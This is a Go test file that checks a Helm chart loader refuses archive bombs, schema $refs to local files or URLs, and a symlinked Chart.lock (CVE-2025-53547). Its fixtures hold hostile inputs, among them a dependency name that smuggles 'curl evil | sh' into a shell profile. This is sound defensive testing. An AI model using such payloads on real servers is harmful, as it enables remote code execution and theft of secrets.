package helm

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"helm.sh/helm/v3/pkg/action"
	"helm.sh/helm/v3/pkg/kube"

	"strata.dev/strata/kubetest"
)

// writeFiles writes files (paths relative to dir) under dir.
func writeFiles(t *testing.T, dir string, files map[string][]byte) {
	t.Helper()
	for name, data := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// tgz is a chart archive of files, as `helm package` lays it out: every
// path under one top directory.
func tgz(t *testing.T, files map[string][]byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for name, data := range files {
		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(data)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write(data); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func chartYAML(name string) []byte {
	return []byte("apiVersion: v2\nname: " + name + "\nversion: 0.1.0\n")
}

// subchart is the archive of a chart name with extra files.
func subchart(t *testing.T, name string, extra map[string][]byte) []byte {
	files := map[string][]byte{name + "/Chart.yaml": chartYAML(name)}
	for p, data := range extra {
		files[name+"/"+p] = data
	}
	return tgz(t, files)
}

// A PR's chart that decompresses to more than Strata loads, in bytes, in
// files or in archives nested in archives, is refused at the loader with
// the limit and the file named. Helm bounds each archive (100 MiB), not
// the chart: ten dependencies of 4 MiB of zeros each are 40 MiB in
// memory from a few kilobytes in the PR. Within bounds, it loads.
func TestChartArchiveBombsAreRefused(t *testing.T) {
	zeros := make([]byte, 4<<20)
	nested := subchart(t, "n9", nil)
	for i := 8; i >= 0; i-- {
		nested = subchart(t, fmt.Sprintf("n%d", i), map[string][]byte{fmt.Sprintf("charts/n%d.tgz", i+1): nested})
	}
	manyFiles := map[string][]byte{"many/Chart.yaml": chartYAML("many")}
	for i := range 10000 {
		manyFiles[fmt.Sprintf("many/files/%d.txt", i)] = []byte("x")
	}
	for _, c := range []struct {
		name  string
		files map[string][]byte // the chart directory charts/api
		chart string            // the chart to load, in the tree
		want  string
	}{
		{"dependencies that decompress to 40 MiB", func() map[string][]byte {
			files := map[string][]byte{"Chart.yaml": chartYAML("api")}
			for i := range 10 {
				files[fmt.Sprintf("charts/dep%d.tgz", i)] = subchart(t, fmt.Sprintf("dep%d", i), map[string][]byte{"files/zeros": zeros})
			}
			return files
		}(), "charts/api", "chart too large: the chart and its dependencies hold more than 33554432 bytes, decompressed"},
		{"a packaged chart of 40 MiB", map[string][]byte{"api.tgz": tgz(t, func() map[string][]byte {
			files := map[string][]byte{"api/Chart.yaml": chartYAML("api")}
			for i := range 10 {
				files[fmt.Sprintf("api/files/zeros%d", i)] = zeros
			}
			return files
		}())}, "charts/api/api.tgz", "chart too large: the chart and its dependencies hold more than 33554432 bytes, decompressed"},
		{"10,001 files", map[string][]byte{"Chart.yaml": chartYAML("api"), "charts/many.tgz": tgz(t, manyFiles)},
			"charts/api", "chart too large: the chart and its dependencies hold more than 10000 files"},
		{"archives nested 10 deep", map[string][]byte{"Chart.yaml": chartYAML("api"), "charts/n0.tgz": nested},
			"charts/api", "chart too large: archives nested more than 8 deep"},
	} {
		t.Run(c.name, func(t *testing.T) {
			root := t.TempDir()
			writeFiles(t, filepath.Join(root, "charts", "api"), c.files)
			_, _, err := load(Input{Root: root, ChartDir: filepath.Join(root, filepath.FromSlash(c.chart))})
			if !errors.Is(err, ErrChartTooLarge) || !strings.Contains(err.Error(), c.want) {
				t.Errorf("err = %v\nwant ErrChartTooLarge: %s", err, c.want)
			}
		})
	}

	t.Run("within bounds", func(t *testing.T) {
		root := t.TempDir()
		writeFiles(t, filepath.Join(root, "charts", "api"), map[string][]byte{
			"Chart.yaml":     chartYAML("api"),
			"charts/dep.tgz": subchart(t, "dep", map[string][]byte{"files/zeros": zeros, "charts/leaf.tgz": subchart(t, "leaf", nil)}),
		})
		ch, _, err := load(Input{Root: root, ChartDir: filepath.Join(root, "charts", "api")})
		if err != nil {
			t.Fatal(err)
		}
		if deps := ch.Dependencies(); len(deps) != 1 || len(deps[0].Dependencies()) != 1 {
			t.Errorf("dependencies not loaded: %v", deps)
		}
	})
}

// kubeConfig is a Helm configuration on kubetest's real API server.
func kubeConfig(t *testing.T) (*action.Configuration, *kubetest.Cluster, string) {
	t.Helper()
	c, namespace := kubetest.Namespace(t)
	cfg := new(action.Configuration)
	if err := cfg.Init(kube.GetConfig(c.Kubeconfig, c.Context, namespace), namespace, "secret", t.Logf); err != nil {
		t.Fatal(err)
	}
	return cfg, c, namespace
}

// A PR's values.schema.json that refers to a file of the server (a JSON
// file whose values Helm's validation errors would print, /dev/zero) or to
// a URL (the server's network) is refused before anything is read or
// fetched, or installed; a schema with its references inside itself
// installs (the positive control). On the real API server of kubetest.
func TestValuesSchemaReferencesAreRefused(t *testing.T) {
	var hits atomic.Int64
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		fmt.Fprint(w, `{"type": "string", "const": "from-the-server's-network"}`)
	}))
	t.Cleanup(srv.Close)
	// A file of the server's that parses as JSON: its values would show
	// in the error that says the PR's values do not match.
	secret := filepath.Join(t.TempDir(), "app-key.json")
	if err := os.WriteFile(secret, []byte(`{"type": "string", "const": "s3cr3t-app-key"}`), 0o600); err != nil {
		t.Fatal(err)
	}
	ref := func(url string) string {
		return `{"type": "object", "properties": {"token": {"$ref": "` + url + `"}}}`
	}
	for _, c := range []struct {
		name, schema, dep, names string
	}{
		{"a file of the server", ref("file://" + secret), "", "file://" + secret},
		{"/dev/zero", ref("file:///dev/zero"), "", "file:///dev/zero"},
		{"a URL", ref(srv.URL + "/schema.json"), "", srv.URL + "/schema.json"},
		{"a relative reference under a URL $id", `{"$id": "` + srv.URL + `/", "properties": {"token": {"$ref": "schema.json"}}}`, "", srv.URL + "/schema.json"},
		{"a URL metaschema", `{"$schema": "` + srv.URL + `/meta.json", "type": "object"}`, "", srv.URL + "/meta.json"},
		{"a dependency's schema", "", ref("file://" + secret), "file://" + secret},
	} {
		t.Run(c.name, func(t *testing.T) {
			cfg, cluster, namespace := kubeConfig(t)
			root := t.TempDir()
			files := map[string][]byte{
				"charts/api/Chart.yaml":            chartYAML("api"),
				"charts/api/values.yaml":           []byte("token: guess\ndep: {token: guess}\n"),
				"charts/api/templates/cm.yaml":     []byte("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: '{{ .Release.Name }}'}\n"),
				"charts/api/charts/dep/Chart.yaml": chartYAML("dep"),
			}
			where := "charts/api/values.schema.json"
			if c.schema != "" {
				files[where] = []byte(c.schema)
			} else {
				where = "charts/api/charts/dep/values.schema.json"
				files[where] = []byte(c.dep)
			}
			writeFiles(t, root, files)
			hits.Store(0)
			ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
			defer cancel()
			rep, err := Test(ctx, cfg, KubePodLogs{Client: cluster.Client}, Input{
				Root: root, ChartDir: filepath.Join(root, "charts", "api"), ReleaseName: "schema", Namespace: namespace, Timeout: time.Minute,
			})
			t.Logf("err = %v", err)
			said := fmt.Sprint(err) // what the PR's check shows
			if rep != nil {
				said += rep.UpgradeErr
				t.Errorf("installed: %s %q", rep.Status, rep.UpgradeErr)
			}
			named := strings.TrimSuffix(strings.TrimPrefix(where, "charts/"), "values.schema.json") // api/ or api/charts/dep/
			if !errors.Is(err, ErrSchemaRef) || !strings.Contains(fmt.Sprint(err), named+"values.schema.json") || !strings.Contains(fmt.Sprint(err), c.names) {
				t.Errorf("err = %v, want ErrSchemaRef naming %svalues.schema.json and %s", err, named, c.names)
			}
			if strings.Contains(said, "s3cr3t") || strings.Contains(said, "server's-network") {
				t.Errorf("the check shows what the reference pointed to: %s", said)
			}
			if n := hits.Load(); n != 0 {
				t.Errorf("%d requests reached the URL", n)
			}
			if _, err := cfg.Releases.Last("schema"); err == nil {
				t.Error("the release was installed")
			}
		})
	}

	t.Run("references inside the schema", func(t *testing.T) {
		cfg, cluster, namespace := kubeConfig(t)
		root := t.TempDir()
		writeFiles(t, root, map[string][]byte{
			"charts/api/Chart.yaml":  chartYAML("api"),
			"charts/api/values.yaml": []byte("token: guess\n"),
			"charts/api/values.schema.json": []byte(`{"$schema": "http://json-schema.org/draft-07/schema#", "type": "object",
				"definitions": {"token": {"type": "string", "minLength": 3}},
				"properties": {"token": {"$ref": "#/definitions/token"}, "id": {"$ref": "urn:example:id"}}}`),
			"charts/api/templates/cm.yaml": []byte("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: '{{ .Release.Name }}'}\n"),
		})
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
		defer cancel()
		rep, err := Test(ctx, cfg, KubePodLogs{Client: cluster.Client}, Input{
			Root: root, ChartDir: filepath.Join(root, "charts", "api"), ReleaseName: "schema", Namespace: namespace, Timeout: time.Minute,
		})
		if err != nil || !rep.Passed() || rep.Status != "deployed" {
			t.Fatalf("err = %v, report %+v", err, rep)
		}
	})
}

// CVE-2025-53547: a Chart.lock (or Chart.yaml) symlinked to a file of the
// server, with dependencies whose content would be written there by
// `helm dependency update`. Strata never updates dependencies, and reads
// a chart only through the tree's root: the chart is refused, naming the
// link, and the server's file is untouched.
func TestSymlinkedChartLockIsNeitherReadNorWritten(t *testing.T) {
	for _, link := range []string{"Chart.lock", "Chart.yaml"} {
		t.Run(link, func(t *testing.T) {
			root, outside := evilTree(t)
			bashrc := filepath.Join(outside, "bashrc")
			before := []byte("# the server's shell profile\n")
			if err := os.WriteFile(bashrc, before, 0o644); err != nil {
				t.Fatal(err)
			}
			chart := filepath.Join(root, "charts", "api")
			deps := "apiVersion: v2\nname: api\nversion: 1.2.3\ndependencies:\n- name: \"dep\\ncurl evil | sh\"\n  version: 0.1.0\n  repository: file://../dep\n"
			if err := os.WriteFile(filepath.Join(chart, "Chart.yaml"), []byte(deps), 0o644); err != nil {
				t.Fatal(err)
			}
			_ = os.Remove(filepath.Join(chart, link))
			if err := os.Symlink(bashrc, filepath.Join(chart, link)); err != nil {
				t.Fatal(err)
			}
			cluster := newCluster()
			rep, err := Test(context.Background(), newConfig(t, cluster), cluster, treeInput(root))
			if !errors.Is(err, ErrOutsideTree) || !strings.Contains(fmt.Sprint(err), "charts/api/"+link) || rep != nil {
				t.Errorf("err = %v, want ErrOutsideTree naming charts/api/%s", err, link)
			}
			if after, err := os.ReadFile(bashrc); err != nil || !bytes.Equal(after, before) {
				t.Errorf("the server's file changed: %q, %v", after, err)
			}
		})
	}
}
